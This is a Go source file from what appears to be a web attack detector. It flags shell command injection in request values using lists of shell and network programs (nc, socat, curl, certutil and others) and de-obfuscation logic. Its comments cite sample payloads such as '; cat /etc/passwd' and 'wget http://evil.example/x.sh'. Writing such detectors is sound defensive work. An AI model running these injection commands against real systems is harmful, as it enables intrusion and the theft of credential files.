package detect

import (
	"strings"

	"github.com/spoorhq/spoor/engine"
)

// shellCommands lists the programs an injected command usually starts
// with, on Unix and Windows. A word counts only after a command separator
// or substitution (cmdInjectionAt), so that "cat" in prose does not.
func shellCommands() []string {
	return []string{
		"cat", "ls", "id", "whoami", "uname", "pwd", "wget", "curl", "nc",
		"ncat", "netcat", "socat", "telnet", "bash", "sh", "zsh", "ksh",
		"csh", "tcsh", "dash", "busybox", "python", "python2", "python3",
		"perl", "ruby", "php", "node", "lua", "echo", "printf", "ping",
		"sleep", "nslookup", "dig", "host", "rm", "chmod", "chown", "kill",
		"killall", "ps", "ifconfig", "ip", "env", "printenv", "touch", "cp",
		"mv", "tail", "head", "more", "less", "grep", "find", "awk", "sed",
		"base64", "xxd", "ftp", "tftp", "ssh", "scp", "sudo", "su", "passwd",
		"crontab", "mkfifo", "nohup", "exec", "eval", "systemctl", "service",
		"netstat", "whois", "hostname", "useradd", "tar", "openssl",
		"xterm", "expr", "timeout", "sort", "od", "nmap", "powershell",
		"pwsh", "cmd", "dir", "type", "net", "ipconfig", "certutil",
		"bitsadmin", "wmic", "reg", "tasklist", "taskkill", "systeminfo",
		"ver", "del", "copy", "start", "rundll32", "mshta", "cscript",
		"wscript", "regsvr32",
		// Prefixes that run the command after them ("time" only at the
		// start of a value: isPrefixCommand), and PowerShell's commands
		// and aliases.
		"xargs", "nice", "setsid", "iwr", "irm", "iex",
		"invoke-webrequest", "invoke-restmethod", "invoke-expression",
		"start-process", "new-object", "get-content", "gc", "icm",
		"invoke-command", "iwmi", "invoke-wmimethod", "who",
	}
}

// maxCommand bounds the length of a command name, the longest being
// PowerShell's ("invoke-webrequest").
const maxCommand = 24

// cmdInjectionAt returns where v runs a command after a separator (';',
// '|', '&', a line break) or inside a substitution ('`', "$("), or -1. The
// command must be a known program followed by the end of v, a shell
// metacharacter, or an argument that looks like one (a flag, a path, a
// number, a quote), so that "; cat lovers" in prose is not an injection and
// "; cat /etc/passwd" is.
//
// In a header (strict), where "; U; id)" and "; Touch;" are parts of
// ordinary User-Agents, only an argument or the end of the value counts
// after the command.
func (s *scan) cmdInjectionAt(v string, strict bool) (at, n int) {
	for i := 0; i < len(v); i++ {
		switch v[i] {
		case ';', '|', '&', '\n', '`':
		case '$':
			if i+1 >= len(v) || v[i+1] != '(' {
				continue
			}
			i++
		default:
			continue
		}
		j := skipCommandPrefix(v, i+1)
		j = skipBinDir(v, j)
		word := j
		for j < len(v) && isWordByte(v[j]) {
			j++
		}
		if j == word || j-word > maxCommand || !s.isCommand(v[word:j]) {
			continue
		}
		if commandEnds(v, j, strict) || s.isNetworkCommand(v[word:j]) && hasArgument(v, j) ||
			word > 0 && v[word-1] == '{' && j < len(v) && v[j] == ',' || s.netSubcommand(v, word, j) {
			// A command line, a download, a brace expansion
			// ("{cat,/etc/passwd}"), or "net user".
			return i, j - i
		}
	}
	return -1, 0
}

// skipCommandPrefix skips what may stand between a separator and the
// command: more separators, white space, braces and quotes, a backslash
// ("\ls" runs ls), and empty variables ("$u wget" runs wget, since $u
// expands to nothing).
func skipCommandPrefix(v string, j int) int {
	for j < len(v) {
		switch c := v[j]; {
		case c == '|' || c == '&' || c == '{' || c == '(' || c == '\'' || c == '"' || c == '\\' || isShellSpace(c):
			j++
		case c == '$' && j+1 < len(v) && isVarStart(v[j+1]):
			k := j + 1
			for k < len(v) && (isVarStart(v[k]) || '0' <= v[k] && v[k] <= '9') {
				k++
			}
			if k == len(v) || !isShellSpace(v[k]) {
				return j
			}
			j = k
		default:
			return j
		}
	}
	return j
}

func isVarStart(c byte) bool { return 'a' <= c && c <= 'z' || 'A' <= c && c <= 'Z' || c == '_' }

// isNetworkCommand reports whether word is a program that reaches out to
// a host: its argument is a host name, which looks like any word, so any
// argument counts ("; wget evil").
func (s *scan) isNetworkCommand(word string) bool {
	return inSet(s.d.netCommands, word)
}

// networkCommands lists the programs of isNetworkCommand.
func networkCommands() []string {
	return []string{
		"wget", "curl", "nc", "ncat", "netcat", "socat", "telnet", "ping",
		"nslookup", "dig", "ssh", "scp", "ftp", "tftp", "iwr", "irm",
		"invoke-webrequest", "invoke-restmethod", "mshta", "certutil",
		"bitsadmin", "regsvr32",
	}
}

// netSubcommand reports whether v[word:j] is Windows' net command
// followed by one of its subcommands ("net user", "net localgroup").
func (s *scan) netSubcommand(v string, word, j int) bool {
	if j-word != 3 || !hasPrefixFold(v[word:j], "net") {
		return false
	}
	k := j
	for k < len(v) && isShellSpace(v[k]) {
		k++
	}
	e := k
	for e < len(v) && isVarStart(v[e]) {
		e++
	}
	if k == j {
		return false
	}
	switch lowerASCII(v[k:e]) {
	case "user", "localgroup", "group", "share", "view", "use", "session", "accounts", "config", "start", "stop":
		return true
	}
	return false
}

// hasArgument reports whether white space and a word follow v[j].
func hasArgument(v string, j int) bool {
	k := j
	for k < len(v) && isShellSpace(v[k]) {
		k++
	}
	return k > j && k < len(v) && isWordByte(v[k])
}

// skipBinDir skips a directory such as "/bin/" or "/usr/bin/" in front of a
// command name.
func skipBinDir(v string, j int) int {
	for _, dir := range [...]string{"/usr/local/bin/", "/usr/local/sbin/", "/usr/bin/", "/usr/sbin/", "/bin/", "/sbin/"} {
		if len(v)-j >= len(dir) && v[j:j+len(dir)] == dir {
			return j + len(dir)
		}
	}
	return j
}

// isCommand looks word up, lower-cased and without a ".exe" suffix,
// without allocating.
func (s *scan) isCommand(word string) bool {
	if len(word) > 4 && hasPrefixFold(word[len(word)-4:], ".exe") {
		word = word[:len(word)-4]
	}
	return inSet(s.d.commands, word)
}

// commandEnds reports whether what follows a command name at v[j:] makes
// it a command line rather than a word.
func commandEnds(v string, j int, strict bool) bool {
	if j == len(v) {
		return true
	}
	switch v[j] {
	case ';', '|', '&', '`', ')', '}', '<', '>', '$', '\n', '\r', '\'', '"', '\x00':
		return !strict
	}
	if !isShellSpace(v[j]) {
		return false
	}
	for j < len(v) && isShellSpace(v[j]) {
		j++
	}
	if j == len(v) || !strict && (v[j] == '\n' || v[j] == '\r') {
		return true
	}
	if isDrivePath(v[j:]) || isEnvVarPath(v[j:]) {
		return true
	}
	c := v[j]
	return c == '-' || c == '/' || c == '\\' || c == '~' || c == '.' || c == '$' ||
		c == '\'' || c == '"' || c == '`' || c == '|' || c == '<' || c == '>' ||
		c == '%' || c == '*' || ('0' <= c && c <= '9')
}

func isShellSpace(c byte) bool { return c == ' ' || c == '\t' || c == '\v' || c == '\f' }

func isWordByte(c byte) bool {
	return 'a' <= c && c <= 'z' || 'A' <= c && c <= 'Z' || '0' <= c && c <= '9' || c == '_' || c == '-' || c == '.'
}

// cmdInjection tags shell commands injected into v. Shell binaries and
// Shellshock are literal markers (markers.go). A value that quotes or
// escapes inside words ("c'a't", "w\\hoami") or globs a file name
// ("/etc/pa[s]swd") is checked again as the shell reads it (shellWords).
func (s *scan) cmdInjection(p *point, v string, m class) {
	header := p.kind == pointHeader
	if s.commandIn(p, v, m, header) || header || m&(classSQL|classSlash) == 0 {
		return
	}
	if w, ok := shellWords(v); ok {
		s.commandIn(p, w, s.d.classes.of(w), false)
	}
}

// commandIn runs the command checks on v and reports whether one tagged.
func (s *scan) commandIn(p *point, v string, m class, header bool) bool {
	if m&classShell != 0 {
		if at, n := s.cmdInjectionAt(v, header); at >= 0 && !markdownCode(v) {
			s.tag(engine.AttackCmdInjection, p, "spoor-cmdi", v, at, n,
				"shell command after a separator or substitution")
			return true
		}
		if at, n := windowsForAt(v); at >= 0 {
			s.tag(engine.AttackCmdInjection, p, "spoor-cmdi", v, at, n,
				"Windows FOR loop running a command")
			return true
		}
		if s.codeExec(p, v, m) {
			return true
		}
	}
	if !header && m&(classColon|classTemplate|classSlash|classSQL) != 0 {
		if n := s.leadingCommandAt(v); n > 0 && !isProse(v[n:]) {
			s.tag(engine.AttackCmdInjection, p, "spoor-cmdi-leading", v, 0, n,
				"value is a command line: a network command with a URL, or a command with a system path")
			return true
		}
	}
	return false
}

// shellWords returns v as a shell reads its words, when that differs
// from v: quotes and backslashes inside words removed ("c'a't" is cat,
// "w\\hoami" whoami) and one-character bracket globs resolved
// ("pa[s]swd" matches passwd). Quotes around a whole word are kept out of
// it too, which is harmless to the checks that read the result.
func shellWords(v string) (string, bool) {
	if !strings.ContainsAny(v, "'\"\\[") {
		return v, false
	}
	b := make([]byte, 0, len(v))
	for i := 0; i < len(v); i++ {
		switch c := v[i]; c {
		case '\'', '"', '\\':
			continue
		case '[':
			// "[s]" and "[p//]" (slashes the glob ignores) name one
			// character.
			j := i + 1
			if j+1 < len(v) && v[j] != ']' && v[j] != '!' && v[j] != '^' {
				k := j + 1
				for k < len(v) && v[k] == '/' {
					k++
				}
				if k < len(v) && v[k] == ']' {
					b = append(b, v[j])
					i = k
					continue
				}
			}
			b = append(b, c)
		default:
			b = append(b, c)
		}
	}
	if len(b) == len(v) {
		return v, false
	}
	return string(b), true
}

// windowsForAt returns where v holds a cmd.exe FOR loop, or -1: "for",
// optional switches ("/f", "/r C:\\"), options in quotes, a %variable,
// "in", a parenthesised set and "do": a structure no sentence has.
func windowsForAt(v string) (at, n int) {
	for i := 0; i+3 < len(v); i++ {
		if !hasPrefixFold(v[i:], "for") || i > 0 && isWordByte(v[i-1]) {
			continue
		}
		f := strings.Fields(v[i:])
		if len(f) < 5 || !strings.EqualFold(f[0], "for") {
			continue
		}
		k := 1
		for k < len(f) && f[k][0] != '%' {
			k++
		}
		if k == len(f) || k > 6 || k+2 >= len(f) || !strings.EqualFold(f[k+1], "in") || f[k+2][0] != '(' {
			continue
		}
		rest := v[i:]
		close := strings.IndexByte(rest, ')')
		if close < 0 {
			continue
		}
		after := strings.TrimLeft(rest[close+1:], " \t")
		if !hasPrefixFold(after, "do") || len(after) > 2 && isWordByte(after[2]) {
			continue
		}
		return i, len(rest) - len(after) + 2
	}
	return -1, 0
}

// leadingCommandAt returns the length of the command that v starts with,
// or 0, for the two forms of a whole value that runs a command without a
// separator: a network command whose argument is a URL ("wget
// http://evil.example/x.sh", "curl -s http://..."), and a command whose
// argument is a Windows drive path or environment variable ("type
// C:\windows\win.ini", "dir %SYSTEMROOT%") or a Unix system path ("cat
// /etc/passwd", "ls -l /etc"). "wget is installed" and "type C for
// cancel" have neither argument, and a command line in a sentence is not
// at the start of the value.
func (s *scan) leadingCommandAt(v string) int {
	i := 0
	for i < len(v) && isShellSpace(v[i]) {
		i++
	}
	if i == len(v) || v[i] != '/' && !s.d.commands.first[lower(v[i])] {
		// Most values start with a letter no command starts with.
		return 0
	}
	j := skipBinDir(v, i)
	word := j
	for j < len(v) && isWordByte(v[j]) {
		j++
	}
	if j > word && isPrefixCommand(v[word:j]) {
		// "time sh -c id", "nohup wget http://...": the command after
		// the prefix is the one to judge.
		if n := s.leadingCommandAt(v[j:]); n > 0 {
			return j + n
		}
		return 0
	}
	if j == word || j-word > maxCommand || !s.isCommand(v[word:j]) {
		return 0
	}
	if word > i && commandEnds(v, j, false) {
		// "/bin/ls -al", "/usr/bin/id": a command by its full path.
		return j
	}
	if onlyFlags(v[j:]) {
		// "uname -a", "ls -la": a command and its flags, nothing else.
		return j
	}
	net := s.isNetworkCommand(v[word:j])
	if s.isShell(v[word:j]) && commandEnds(v, j, true) && j < len(v) {
		// A shell with a flag or a script ("sh -c id", "bash -i").
		return j
	}
	for k := j; k < len(v); {
		for k < len(v) && isShellSpace(v[k]) {
			k++
		}
		if k == j || k == len(v) {
			return 0
		}
		arg := k
		for k < len(v) && !isShellSpace(v[k]) {
			k++
		}
		switch a := v[arg:k]; {
		case net && isURLArgument(a):
			return k
		case !net && (isDrivePath(a) || isEnvVarPath(a) || isSystemPath(a)):
			return k
		case a[0] == '-' || a[0] == '/' && len(a) > 1 && len(a) <= 8 && isVarStart(a[1]) && strings.IndexByte(a[1:], '/') < 0:
			// A flag ("-s", "/c"); the argument may follow.
			j = k
			continue
		}
		return 0
	}
	return 0
}

// onlyFlags reports whether rest is one or more flags ("-a", "-la
// --all") and nothing else.
func onlyFlags(rest string) bool {
	n := 0
	for _, f := range strings.Fields(rest) {
		if len(f) < 2 || f[0] != '-' || len(f) > 12 {
			return false
		}
		for _, c := range []byte(f[1:]) {
			if !isVarStart(c) && c != '-' {
				return false
			}
		}
		n++
	}
	return n > 0 && isShellSpace(rest[0])
}

// isShell reports whether word is a shell or script interpreter, lower
// case or not.
func (s *scan) isShell(word string) bool {
	switch lowerASCII(word) {
	case "sh", "bash", "zsh", "ksh", "dash", "csh", "tcsh", "busybox",
		"powershell", "pwsh", "cmd", "cmd.exe", "powershell.exe":
		return true
	}
	return false
}

// isPrefixCommand reports whether word runs the command that follows it.
func isPrefixCommand(word string) bool {
	switch lowerASCII(word) {
	case "time", "nohup", "nice", "sudo", "xargs", "env", "setsid", "timeout", "exec":
		return true
	}
	return false
}

// isURLArgument reports whether a is an absolute URL.
func isURLArgument(a string) bool {
	i := strings.Index(a, "://")
	if i <= 0 || i > 10 || i+3 == len(a) {
		return false
	}
	for _, c := range []byte(a[:i]) {
		if !isVarStart(c) {
			return false
		}
	}
	return true
}

// isSystemPath reports whether a is an absolute path into a Unix system
// directory ("/etc/passwd", "/bin/sh", "/proc/self/environ").
func isSystemPath(a string) bool {
	for _, dir := range [...]string{"/etc/", "/bin/", "/sbin/", "/usr/", "/var/", "/proc/", "/dev/", "/tmp/", "/root/", "/home/", "/opt/", "/sys/", "/boot/", "/lib/"} {
		if len(a) > len(dir) && hasPrefixFold(a, dir) {
			return true
		}
	}
	return false
}

// isDrivePath reports whether a starts with a Windows drive ("C:\", "c:/").
func isDrivePath(a string) bool {
	return len(a) >= 3 && ('a' <= a[0]|0x20 && a[0]|0x20 <= 'z') && a[1] == ':' && (a[2] == '\\' || a[2] == '/')
}

// isEnvVarPath reports whether a starts with a Windows environment
// variable ("%SYSTEMROOT%\win.ini", "%windir%").
func isEnvVarPath(a string) bool {
	if len(a) < 3 || a[0] != '%' {
		return false
	}
	k := 1
	for k < len(a) && (isVarStart(a[k]) || '0' <= a[k] && a[k] <= '9') {
		k++
	}
	return k > 2 && k < len(a) && a[k] == '%'
}
